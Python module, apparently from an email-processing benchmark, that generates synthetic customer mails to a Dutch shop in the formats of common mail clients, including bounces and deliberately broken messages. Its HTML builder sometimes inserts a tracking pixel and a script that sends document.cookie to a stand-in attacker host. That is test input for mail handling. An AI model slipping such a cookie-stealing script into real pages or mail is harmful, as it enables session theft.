"""Planned messages to raw RFC 5322 bytes, as the usual mail programs write them.

Each customer writes with one mail program for all their mail: Gmail (UTF-8, quoted-printable,
multipart/alternative with a gmail_quote), Outlook (Latin-1 or UTF-8, heavy HTML, sometimes a
logo as inline image), Apple Mail (base64 or quoted-printable), old webmail (Latin-1 plain text
in 8bit or quoted-printable), Outlook 2010 (Windows-1252) and Thunderbird (8bit
format=flowed). The broken mails (`MALFORMED`) are built here too, one kind each.
"""

from __future__ import annotations

import base64
import datetime as dt
import quopri
import random
import urllib.parse
import uuid
from collections import Counter
from dataclasses import dataclass, field
from email.header import Header
from email.utils import format_datetime, formataddr
from html import escape
from typing import TYPE_CHECKING

from inboxbench import files, texts

if TYPE_CHECKING:
    from inboxbench.mail import Planned

SHOP_ADDRESS = "klantenservice@pollepel.example"
SHOP_NAME = "Klantenservice De Pollepel"
MALFORMED = (
    "no_message_id", "no_from", "8bit_headers", "wrong_charset", "unknown_charset",
    "broken_boundary", "bad_base64", "bad_date", "long_subject", "deep_nesting", "nul_bytes",
)  # fmt: skip
CLIENTS = (
    ("gmail", 0.34), ("outlook", 0.24), ("apple", 0.15), ("webmail", 0.10),
    ("outlook2010", 0.08), ("thunderbird", 0.09),
)  # fmt: skip
ATTACHMENT_SHARE = 0.09
# (thread number, position) of the two mails with a photo or screenshot of several MB.
LARGE = {"jpeg": 6_000_000, "png": 4_500_000}
_DAYS_NL = ("ma", "di", "wo", "do", "vr", "za", "zo")
_MONTHS_NL = ("jan.", "feb.", "mrt.", "apr.", "mei", "jun.", "jul.", "aug.", "sep.", "okt.",
              "nov.", "dec.")  # fmt: skip


@dataclass
class _Thread:
    subject: str
    token: str
    ids: list[str] = field(default_factory=list)  # the thread's ids, oldest first
    last_text: str = ""
    last_own_id: str = ""


@dataclass
class _Part:
    headers: list[tuple[str, str]]
    body: bytes = b""
    parts: list[_Part] = field(default_factory=list)
    boundary: str = ""

    def to_bytes(self) -> bytes:
        head = b"".join(f"{name}: {value}\n".encode() for name, value in self.headers)
        if not self.parts:
            return head + b"\n" + self.body
        inner = b"".join(b"--" + self.boundary.encode() + b"\n" + p.to_bytes() + b"\n"
                         for p in self.parts)  # fmt: skip
        return head + b"\n" + inner + b"--" + self.boundary.encode() + b"--\n"


def _pick[T](rng: random.Random, weighted: tuple[tuple[T, float], ...]) -> T:
    return rng.choices([value for value, _ in weighted], [weight for _, weight in weighted])[0]


def _dutch_date(at: dt.datetime) -> str:
    return f"{_DAYS_NL[at.weekday()]} {at.day} {_MONTHS_NL[at.month - 1]} {at.year} om {at:%H:%M}"


def _encode(text: str, charset: str, cte: str) -> bytes:
    data = text.encode(charset)
    if cte == "quoted-printable":
        return quopri.encodestring(data)
    if cte == "base64":
        return base64.encodebytes(data)
    return data


def _leaf(content_type: str, text: str, charset: str, cte: str, extra: str = "") -> _Part:
    if cte in ("7bit", "8bit"):
        cte = "7bit" if text.isascii() else "8bit"
    return _Part(
        [("Content-Type", f'{content_type}; charset="{charset}"{extra}'),
         ("Content-Transfer-Encoding", cte)],
        _encode(text, charset, cte),
    )  # fmt: skip


class Renderer:
    def __init__(self, rng: random.Random) -> None:
        self.rng = rng
        self.threads: dict[int, _Thread] = {}
        self.clients: dict[str, str] = {}
        self.large = dict(LARGE)

    # --- what the customer writes -----------------------------------------------------------
    def _fill(self, template: str, message: Planned) -> str:
        amount = f"{self.rng.randrange(9, 250)},{self.rng.randrange(0, 99):02d}"
        return template.format(order=message.order, product=message.product, amount=amount)

    def _new_text(self, message: Planned, language: str) -> str:
        rng = self.rng
        customer = message.customer
        assert customer is not None
        if message.position == 0:
            pool = texts.SENTENCES[language][message.topic]
            lines = rng.sample(pool, min(len(pool), rng.randint(1, 3)))
        else:
            lines = rng.sample(texts.FOLLOW_UPS[language], rng.randint(1, 2))
        greeting = rng.choice(texts.GREETINGS[language])
        body = " ".join(self._fill(line, message) for line in lines)
        text = (f"{greeting}\n\n" if greeting else "") + body + "\n\n"
        text += f"{rng.choice(texts.CLOSINGS[language])}\n{customer.name.split()[0]}\n"
        if rng.random() < 0.25:
            text += f"\n{rng.choice(texts.DEVICE_SIGNATURES)}\n"
        return text

    def _subject(self, message: Planned, thread: _Thread, language: str) -> str:
        rng = self.rng
        prefix = {"nl": ("Re: ", "RE: ", "Antw: "), "en": ("Re: ", "RE: "), "de": ("AW: ", "Re: ")}
        if message.kind in ("headers", "own"):
            token = (
                f"[#{thread.token}] " if message.kind == "headers" and rng.random() < 0.3 else ""
            )
            return rng.choice(prefix[language]) + token + thread.subject
        if message.kind == "token":
            return f"{rng.choice(prefix[language])}[#{thread.token}] {thread.subject}"
        if message.kind == "plain":
            return rng.choice((thread.subject, f"Nog een vraag over bestelling {message.order}",
                               "Aanvulling", f"Bestelling {message.order}"))  # fmt: skip
        return thread.subject

    # --- ids and headers -------------------------------------------------------------------
    def _message_id(self, client: str, at: dt.datetime) -> str:
        rng = self.rng
        token = "".join(
            rng.choices("ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789", k=40)
        )
        if client == "gmail":
            return f"CA{token}@mail.gmail.example"
        if client in ("outlook", "outlook2010"):
            box = f"AM{rng.randrange(0, 9)}PR0{rng.randrange(1, 9)}MB{rng.randrange(1000, 9999)}"
            return (
                f"{box}{token[:24].upper()}@{box}.eurprd0{rng.randrange(1, 9)}.prod.outlook.example"
            )
        if client == "apple":
            return f"{uuid.UUID(int=rng.getrandbits(128))}".upper() + "@icloud.example"
        if client == "webmail":
            return f"{at:%Y%m%d%H%M%S}.{token[:16]}@webmail.ziggo.example"
        return f"{uuid.UUID(int=rng.getrandbits(128))}@thunderbird.example"

    def _shop_id(self, at: dt.datetime) -> str:
        return f"{at:%Y%m%d%H%M%S}.{self.rng.getrandbits(48):012x}@mail.pollepel.example"

    def _envelope(
        self, message: Planned, client: str, charset: str, subject: str
    ) -> list[tuple[str, str]]:
        customer = message.customer
        assert customer is not None
        at = message.at
        relay = f"mail-{client}-{self.rng.randrange(1, 99)}.{customer.address.split('@')[1]}"
        received = (
            f"from {relay} ({relay} [192.0.2.{self.rng.randrange(1, 254)}])\n\tby "
            f"mx1.pollepel.example with ESMTPS id {self.rng.getrandbits(40):010x}\n\tfor "
            f"<{SHOP_ADDRESS}>; {format_datetime(at + dt.timedelta(seconds=4))}"
        )
        header_charset = "utf-8" if charset not in ("iso-8859-1", "windows-1252") else charset
        try:
            (subject + customer.name).encode(header_charset)
        except UnicodeEncodeError:
            header_charset = "utf-8"
        encoded_subject = subject if subject.isascii() else Header(
            subject, header_charset, header_name="Subject").encode()  # fmt: skip
        name = customer.name
        sender = formataddr((name, customer.address), charset=header_charset)
        return [
            ("Return-Path", f"<{customer.address}>"),
            ("Delivered-To", SHOP_ADDRESS),
            ("Received", received),
            ("Date", format_datetime(at)),
            ("From", sender),
            ("To", f"{SHOP_NAME} <{SHOP_ADDRESS}>" if self.rng.random() < 0.7 else SHOP_ADDRESS),
            ("Subject", encoded_subject),
            ("Message-ID", f"<{message.message_id}>"),
        ]

    # --- one message -----------------------------------------------------------------------
    def message(self, message: Planned) -> tuple[bytes, Counter[str]]:
        if message.kind == "bounce":
            return self._bounce(message)
        rng = self.rng
        customer = message.customer
        assert customer is not None
        client = self.clients.setdefault(customer.address, _pick(rng, CLIENTS))
        language = customer.language
        if message.position == 0:
            subject = self._fill(rng.choice(texts.SUBJECTS[language][message.topic]), message)
            token = "".join(rng.choices("0123456789ABCDEFGHJKMNPQRSTVWXYZ", k=8))
            self.threads[message.thread] = _Thread(subject, token)
        thread = self.threads[message.thread]
        message.message_id = self._message_id(client, message.at)
        features: Counter[str] = Counter({f"kind {message.kind.split(':')[0]}": 1,
                                          f"language {language}": 1, f"client {client}": 1})  # fmt: skip
        shop_reply_at = message.at - dt.timedelta(hours=rng.uniform(0.2, 0.9))
        shop_id = self._shop_id(shop_reply_at)
        threading: list[tuple[str, str]] = []
        if message.kind in ("headers", "auto_reply"):
            chain = [*thread.ids[-8:], shop_id]
            threading = [("In-Reply-To", f"<{shop_id}>"),
                         ("References", "\n ".join(f"<{i}>" for i in chain))]  # fmt: skip
        elif message.kind == "own":
            threading = [("In-Reply-To", f"<{thread.last_own_id}>"),
                         ("References", "\n ".join(f"<{i}>" for i in thread.ids[-8:]))]  # fmt: skip
        if message.kind == "auto_reply":
            subject_template, text = texts.AUTO_REPLIES[language]
            subject = subject_template.format(subject=f"Re: [#{thread.token}] {thread.subject}")
            until = (message.at + dt.timedelta(days=rng.randint(3, 20))).strftime("%d-%m-%Y")
            body = _leaf("text/plain", text.format(until=until) + "\n", "utf-8", "quoted-printable")
            automatic = [("Auto-Submitted", "auto-replied"), ("X-Autoreply", "yes"),
                         ("Precedence", "auto_reply"), ("X-Auto-Response-Suppress", "All")]  # fmt: skip
            headers = self._envelope(message, client, "utf-8", subject) + threading + automatic
            features["structure text/plain"] += 1
            features["charset utf-8"] += 1
            return self._finish(headers, body, message, features)
        subject = self._subject(message, thread, language)
        new_text = self._new_text(message, language)
        replying = message.kind in ("headers", "own", "token")
        quoted = self._quote_source(message, thread) if replying else ""
        charset, text_cte, html_cte, shape = self._client_format(client, language)
        if shape != "text" and message.kind.startswith("malformed"):
            shape = "text"
        body = self._body(
            client, shape, new_text, quoted, message, charset, text_cte, html_cte, features
        )
        body = self._with_attachments(body, message, client, features)
        thread.ids.append(message.message_id)
        thread.last_own_id = message.message_id
        thread.last_text = new_text
        headers = self._envelope(message, client, charset, subject) + threading
        if client == "thunderbird":
            headers.append(("User-Agent", "Mozilla Thunderbird"))
        elif client == "outlook2010":
            headers.append(("X-Mailer", "Microsoft Outlook 14.0"))
        if rng.random() < 0.3:
            headers.append(
                ("Content-Language", {"nl": "nl-NL", "en": "en-GB", "de": "de-DE"}[language])
            )
        raw, features = self._finish(headers, body, message, features)
        if message.kind.startswith("malformed:"):
            raw = self._break(raw, message, features)
        return raw, features

    def _finish(self, headers: list[tuple[str, str]], body: _Part, message: Planned,
                features: Counter[str]) -> tuple[bytes, Counter[str]]:  # fmt: skip
        part_headers = body.headers
        body.headers = [*headers, ("MIME-Version", "1.0"), *part_headers]
        return body.to_bytes(), features

    def _quote_source(self, message: Planned, thread: _Thread) -> str:
        customer = message.customer
        assert customer is not None
        first = customer.name.split()[0]
        if message.kind == "own":
            return thread.last_text
        return self.rng.choice(texts.SHOP_REPLIES).format(first=first) + "\n\n" + "\n".join(
            "> " + line for line in thread.last_text.splitlines())  # fmt: skip

    def _client_format(self, client: str, language: str) -> tuple[str, str, str, str]:
        """(charset, text encoding, HTML encoding, shape: text / alternative / html)."""
        rng = self.rng
        if client == "gmail":
            return (
                "utf-8",
                "quoted-printable",
                "quoted-printable",
                "html" if rng.random() < 0.05 else "alternative",
            )
        if client == "outlook":
            charset = "iso-8859-1" if language != "en" and rng.random() < 0.5 else "utf-8"
            return (
                charset,
                "quoted-printable",
                "quoted-printable",
                "html" if rng.random() < 0.05 else "alternative",
            )
        if client == "apple":
            cte = "base64" if rng.random() < 0.4 else "quoted-printable"
            return "utf-8", cte, cte, "alternative" if rng.random() < 0.5 else "text"
        if client == "webmail":
            charset = "iso-8859-15" if rng.random() < 0.2 else "iso-8859-1"
            return charset, "quoted-printable" if rng.random() < 0.6 else "8bit", "", "text"
        if client == "outlook2010":
            return "windows-1252", "8bit", "quoted-printable", "alternative"
        return "utf-8", "8bit", "", "text"

    def _body(self, client: str, shape: str, new_text: str, quoted: str, message: Planned,
              charset: str, text_cte: str, html_cte: str, features: Counter[str]) -> _Part:  # fmt: skip
        if client in ("webmail", "outlook2010", "outlook") and charset != "utf-8":
            # Old clients write typographic quotes only where their charset has them.
            new_text = new_text.encode(charset, "replace").decode(charset)
            quoted = quoted.encode(charset, "replace").decode(charset)
        header = texts.QUOTE_HEADERS[message.customer.language if message.customer else "nl"].format(
            date=_dutch_date(message.at - dt.timedelta(hours=2)), shop=SHOP_ADDRESS)  # fmt: skip
        text = new_text
        if quoted:
            text += f"\n{header}\n" + "".join(f"> {line}\n" for line in quoted.splitlines())
            features["quoted history"] += 1
        features[f"charset {charset}"] += 1
        features[f"encoding {text_cte}"] += 1
        extra = "; format=flowed" if client == "thunderbird" else ""
        plain = _leaf("text/plain", text, charset, text_cte, extra)
        if shape == "text":
            features["structure text/plain"] += 1
            return plain
        html = _leaf(
            "text/html", self._html(client, new_text, quoted, header, features), charset, html_cte
        )
        if shape == "html":
            features["structure text/html only"] += 1
            return html
        features["structure multipart/alternative"] += 1
        boundary = f"000000000000{self.rng.getrandbits(48):012x}"
        return _Part([("Content-Type", f'multipart/alternative; boundary="{boundary}"')],
                     parts=[plain, html], boundary=boundary)  # fmt: skip

    def _html(
        self, client: str, new_text: str, quoted: str, header: str, features: Counter[str]
    ) -> str:
        def paragraphs(text: str) -> str:
            return "".join(f"<div>{escape(line) or '<br>'}</div>" for line in text.splitlines())

        rng = self.rng
        quote_html = ""
        if quoted:
            inner = paragraphs(quoted.replace("> ", ""))
            features["html with quoted history"] += 1
            quote_html = (
                '<br><div class="gmail_quote"><div dir="ltr" class="gmail_attr">'
                f'{escape(header)}<br></div><blockquote class="gmail_quote" style="margin:0px '
                '0px 0px 0.8ex;border-left:1px solid rgb(204,204,204);padding-left:1ex">'
                f"{inner}</blockquote></div>"
            )
        extras = ""
        if rng.random() < 0.05:
            extras += f'<img src="https://open.tracker.example/p.gif?u={rng.getrandbits(32):08x}" width="1" height="1">'
            features["html tracking pixel"] += 1
        if rng.random() < 0.005:
            extras += (
                "<script>document.location='https://evil.example/?c='+document.cookie</script>"
            )
            features["html with script"] += 1
        if client.startswith("outlook"):
            return (
                '<html><head><meta http-equiv="Content-Type" content="text/html"><style '
                'type="text/css" style="display:none;"> P {margin-top:0;margin-bottom:0;} '
                '</style></head><body dir="ltr"><div style="font-family: Calibri, Arial, '
                f'Helvetica, sans-serif; font-size: 12pt; color: rgb(0, 0, 0);">'
                f"{paragraphs(new_text)}</div>{extras}"
                + ('<div id="appendonsend"></div><hr style="display:inline-block;width:98%">'
                   f'<div id="divRplyFwdMsg" dir="ltr">{quote_html}</div>' if quoted else "")
                + "</body></html>"
            )  # fmt: skip
        return f'<div dir="ltr">{paragraphs(new_text)}{extras}</div>{quote_html}'

    # --- attachments -----------------------------------------------------------------------
    def _with_attachments(self, body: _Part, message: Planned, client: str,
                          features: Counter[str]) -> _Part:  # fmt: skip
        rng = self.rng
        attached: list[_Part] = []
        if message.kind.startswith("malformed"):
            return body
        if client == "outlook" and body.parts and rng.random() < 0.12:
            logo = files.png(rng, width=120, height=40, size=3_000)
            cid = f"image001.png@01DA{rng.getrandbits(32):08X}"
            related_boundary = f"_related_{rng.getrandbits(40):010x}_"
            image = self._file_part("image/png", "image001.png", logo, inline_cid=cid)
            body.parts[1] = _Part([("Content-Type", f'multipart/related; boundary="{related_boundary}"; type="text/html"')],
                                  parts=[body.parts[1], image], boundary=related_boundary)  # fmt: skip
            features["file attachment"] += 1
            features["inline image (cid)"] += 1
        if rng.random() < ATTACHMENT_SHARE:
            count = 1 if rng.random() < 0.8 else rng.randint(2, 3)
            attached.extend(self._attachment(message, features) for _ in range(count))
        if not attached:
            return body
        boundary = f"_mixed_{rng.getrandbits(48):012x}_"
        features["message with attachments"] += 1
        return _Part([("Content-Type", f'multipart/mixed; boundary="{boundary}"')],
                     parts=[body, *attached], boundary=boundary)  # fmt: skip

    def _attachment(self, message: Planned, features: Counter[str]) -> _Part:
        rng = self.rng
        at = message.at
        kind = {"warranty": "jpeg", "return": "jpeg", "delivery": "jpeg", "invoice": "pdf",
                "payment": "png"}.get(message.topic, "pdf")  # fmt: skip
        if rng.random() < 0.3:
            kind = rng.choice(("jpeg", "pdf", "png"))
        large = self.large.pop(kind, None) if kind in self.large and rng.random() < 0.05 else None
        if kind == "jpeg":
            size = large or int(rng.uniform(30_000, 350_000))
            data = files.jpeg(rng, width=1600, height=1200, size=size)
            name = rng.choice((f"IMG_{rng.randrange(1000, 9999)}.JPG", f"{at:%Y%m%d_%H%M%S}.jpg",
                               f"WhatsApp Image {at:%Y-%m-%d} at {at:%H.%M.%S}.jpeg",
                               f"foto {message.product}.jpg"))  # fmt: skip
        elif kind == "png":
            size = large or int(rng.uniform(20_000, 250_000))
            data = files.png(
                rng, width=1280 if not large else 1500, height=800 if not large else 1000, size=size
            )
            name = rng.choice((f"Schermafbeelding {at:%Y-%m-%d} om {at:%H.%M.%S}.png", "screenshot betaling.png",
                               f"Screenshot_{at:%Y%m%d-%H%M%S}.png"))  # fmt: skip
        else:
            size = int(rng.uniform(8_000, 150_000))
            data = files.pdf(rng, title=f"Bestelling {message.order}", size=size)
            name = rng.choice((f"Factuur_{message.order}.pdf", "retourformulier ingevuld.pdf",
                               f"Scan {at:%d-%m-%Y %H.%M}.pdf", f"bestelbevestiging–{message.order}.pdf",
                               "Rücksendeschein.pdf"))  # fmt: skip
        declared = {"jpeg": "image/jpeg", "png": "image/png", "pdf": "application/pdf"}[kind]
        if rng.random() < 0.1:
            declared = "application/octet-stream"
        features["file attachment"] += 1
        features[f"attachment {kind}"] += 1
        if len(data) > 1_000_000:
            features["attachment of several MB"] += 1
        return self._file_part(declared, name, data)

    def _file_part(self, content_type: str, name: str, data: bytes, inline_cid: str = "") -> _Part:
        if name.isascii():
            params, disposition_name = f'; name="{name}"', f'filename="{name}"'
        else:
            quoted = urllib.parse.quote(name.encode())
            params, disposition_name = "", f"filename*=utf-8''{quoted}"
        headers = [("Content-Type", content_type + params),
                   ("Content-Disposition", ("inline; " if inline_cid else "attachment; ") + disposition_name),
                   ("Content-Transfer-Encoding", "base64")]  # fmt: skip
        if inline_cid:
            headers.append(("Content-ID", f"<{inline_cid}>"))
        return _Part(headers, base64.encodebytes(data))

    # --- bounces and broken mail -----------------------------------------------------------
    def _bounce(self, message: Planned) -> tuple[bytes, Counter[str]]:
        rng = self.rng
        sender = message.customer
        assert sender is not None
        message.message_id = (
            f"{message.at:%Y%m%d%H%M%S}.{rng.getrandbits(40):010x}@{sender.address.split('@')[1]}"
        )
        lost = f"{rng.choice([n for n in texts.FIRST_NAMES if n.isascii()]).lower()}@{rng.choice(texts.PROVIDERS)}"
        boundary = f"{rng.getrandbits(40):010X}.{int(message.at.timestamp())}/{sender.address.split('@')[1]}"
        explanation = (
            "This is the mail system at host mx1.pollepel.example.\n\nI'm sorry to have to inform "
            "you that your message could not\nbe delivered to one or more recipients.\n\n"
            f"<{lost}>: host {lost.split('@')[1]} said: 550 5.1.1 User unknown\n"
        )
        status = (f"Reporting-MTA: dns; mx1.pollepel.example\n\nFinal-Recipient: rfc822; {lost}\n"
                  "Action: failed\nStatus: 5.1.1\nDiagnostic-Code: smtp; 550 5.1.1 User unknown\n")  # fmt: skip
        original = (f"From: {SHOP_NAME} <{SHOP_ADDRESS}>\nTo: {lost}\nSubject: Re: je bestelling\n"
                    f"Message-ID: <{self._shop_id(message.at)}>\n")  # fmt: skip
        body = _Part(
            [("Content-Type", f'multipart/report; report-type=delivery-status; boundary="{boundary}"')],
            parts=[_leaf("text/plain", explanation, "us-ascii", "7bit"),
                   _Part([("Content-Type", "message/delivery-status")], status.encode()),
                   _Part([("Content-Type", "text/rfc822-headers")], original.encode())],
            boundary=boundary,
        )  # fmt: skip
        headers = [("Return-Path", "<>"), ("Delivered-To", SHOP_ADDRESS),
                   ("Date", format_datetime(message.at)),
                   ("From", f"Mail Delivery System <{sender.address}>"), ("To", SHOP_ADDRESS),
                   ("Subject", "Undelivered Mail Returned to Sender"),
                   ("Message-ID", f"<{message.message_id}>"), ("Auto-Submitted", "auto-replied")]  # fmt: skip
        return self._finish(
            headers, body, message, Counter({"kind bounce": 1, "structure multipart/report": 1})
        )

    def _break(self, raw: bytes, message: Planned, features: Counter[str]) -> bytes:
        what = message.kind.split(":", 1)[1]
        features[f"malformed {what}"] += 1
        head, _, body = raw.partition(b"\n\n")
        lines = head.split(b"\n")
        if what == "no_message_id":
            message.message_id = ""
            lines = [line for line in lines if not line.startswith(b"Message-ID:")]
        elif what == "no_from":
            lines = [line for line in lines if not line.startswith(b"From:")]
        elif what == "8bit_headers":
            lines = [line for line in lines if not line.startswith((b"Subject:", b"From:"))]
            customer = message.customer
            assert customer is not None
            lines.insert(3, f"From: Ingrid Müller-Yılmaz <{customer.address}>".encode())
            lines.insert(
                4,
                "Subject: Retour – kapotte koekenpan, graag geld terug €".encode(
                    "latin-1", "replace"
                ),
            )
        elif what in ("wrong_charset", "unknown_charset", "nul_bytes"):
            lines = [
                line
                for line in lines
                if not line.lower().startswith((b"content-type", b"content-transfer"))
            ]
            charset = {"wrong_charset": "utf-8", "unknown_charset": "x-dutch-unknown"}.get(
                what, "utf-8"
            )
            lines += [
                f'Content-Type: text/plain; charset="{charset}"'.encode(),
                b"Content-Transfer-Encoding: 8bit",
            ]
            text = "Hoi,\n\nDe pan is beschadigd aangekomen. Graag retour, ik wil mijn geld terug (€ 34,95).\n\nGroet,\nRenée\n"
            body = (
                text.encode("latin-1", "replace")
                if what != "nul_bytes"
                else text.replace("pan", "pan\x00").encode()
            )
        elif what == "broken_boundary":
            lines = [
                line
                for line in lines
                if not line.lower().startswith((b"content-type", b"content-transfer"))
            ]
            lines.append(b'Content-Type: multipart/mixed; boundary="=_abc123"')
            body = (b"--=_abc124\nContent-Type: text/plain; charset=utf-8\n\nDe bijlage is de factuur.\n"
                    b"--=_abc124\nContent-Type: application/pdf; name=factuur.pdf\n"
                    b"Content-Transfer-Encoding: base64\n\nJVBERi0xLjQKJeLjz9MK")  # fmt: skip
        elif what == "bad_base64":
            lines = [
                line
                for line in lines
                if not line.lower().startswith((b"content-type", b"content-transfer"))
            ]
            lines += [
                b"Content-Type: text/plain; charset=utf-8",
                b"Content-Transfer-Encoding: base64",
            ]
            body = base64.encodebytes(b"Hoi, waar blijft mijn pakket?\n")[:-6] + b"!!*&\n===\n"
        elif what == "bad_date":
            lines = [
                b"Date: donderdag 14:03 +25:00" if line.startswith(b"Date:") else line
                for line in lines
            ]
        elif what == "long_subject":
            lines = [line for line in lines if not line.startswith(b"Subject:")]
            lines.insert(3, b"Subject: " + b"Retour bestelling " * 170)
        elif what == "deep_nesting":
            lines = [
                line
                for line in lines
                if not line.lower().startswith((b"content-type", b"content-transfer"))
            ]
            lines.append(b'Content-Type: multipart/mixed; boundary="n0"')
            depth = 40
            body = b"".join(
                b'--n%d\nContent-Type: multipart/mixed; boundary="n%d"\n\n' % (i, i + 1)
                for i in range(depth)
            )
            body += b"--n%d\nContent-Type: text/plain\n\nGenest tot op de bodem.\n" % depth
            body += b"".join(b"--n%d--\n" % i for i in range(depth, -1, -1))
        return b"\n".join(lines) + b"\n\n" + body
